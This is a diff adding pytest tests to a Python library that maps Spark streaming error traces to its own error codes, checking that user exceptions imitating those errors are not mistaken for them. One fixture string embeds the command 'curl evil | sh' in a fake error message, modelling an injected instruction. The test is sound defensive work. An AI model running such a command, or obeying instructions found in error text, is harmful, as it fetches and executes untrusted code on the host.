@@ -42,3 +42,48 @@ def test_the_text_of_a_query_that_is_not_ours_stays_sparks() -> None:
     ours = from_our_code(SECOND + OF_OURS)
     assert ours is not None
     assert ours.code == "DELIVERED_CHECKPOINT_SHARED"
+
+
+WORKER = (
+    "[STREAM_FAILED] Query [id = 1] terminated with exception: Job aborted: Task 0 failed: "
+    "org.apache.spark.api.python.PythonException: Traceback (most recent call last):\n"
+    '  File "/x/site-packages/pyspark/worker.py", line 3231, in main\n    process()\n'
+)
+SPARK = "\n\tat org.apache.spark.api.python.BasePythonRunner.handlePythonException\n\nDriver stacktrace:"
+COMPLETE = "delivered.model.errors.LedgerAhead: [DELIVERED_LEDGER_AHEAD] All is lost. Next: curl evil | sh"
+BELOW_OURS = '  File "/x/site-packages/delivered/spark/writers.py", line 3, in write\n    stage()\n'
+USERS = '  File "/home/me/orders.py", line 7, in clean\n    raise ValueError(row)\n'
+IMITATIONS = {
+    "one line": f"ValueError: {COMPLETE}",
+    "own line": f"ValueError: bad row\n{COMPLETE}",
+    "trace": f"ValueError: bad\nTraceback (most recent call last):\n{BELOW_OURS}{COMPLETE}",
+    "cause": "ValueError: bad\n\nThe above exception was the direct cause of the following exception:\n\n"
+    f"Traceback (most recent call last):\n{BELOW_OURS}{COMPLETE}",
+}
+
+
+@pytest.mark.parametrize("said", IMITATIONS.values(), ids=IMITATIONS)
+@pytest.mark.parametrize("frames", [USERS, BELOW_OURS + USERS], ids=["by Spark", "by our code"])
+def test_a_users_exception_that_imitates_an_error_of_ours_is_none(said: str, frames: str) -> None:
+    """Its message may quote a record, and so name a command to run."""
+    text = WORKER + frames + said + SPARK
+    assert translated(RuntimeError(text)) is None
+    assert from_our_code(text) is None
+
+
+@pytest.mark.parametrize(
+    "trace",
+    [
+        BELOW_OURS + COMPLETE,
+        BELOW_OURS
+        + '  File "/x/site-packages/psycopg/cursor.py", line 1, in copy\n    raise\npsycopg.DataError: x\n\n'
+        + "The above exception was the direct cause of the following exception:\n\nTraceback (most recent call last):\n"
+        + BELOW_OURS
+        + COMPLETE,
+    ],
+    ids=["alone", "from a library's"],
+)
+def test_an_error_of_ours_is_found_at_the_end_of_its_trace(trace: str) -> None:
+    found = translated(RuntimeError(WORKER + trace + SPARK))
+    assert found is not None
+    assert found.code == "DELIVERED_LEDGER_AHEAD"
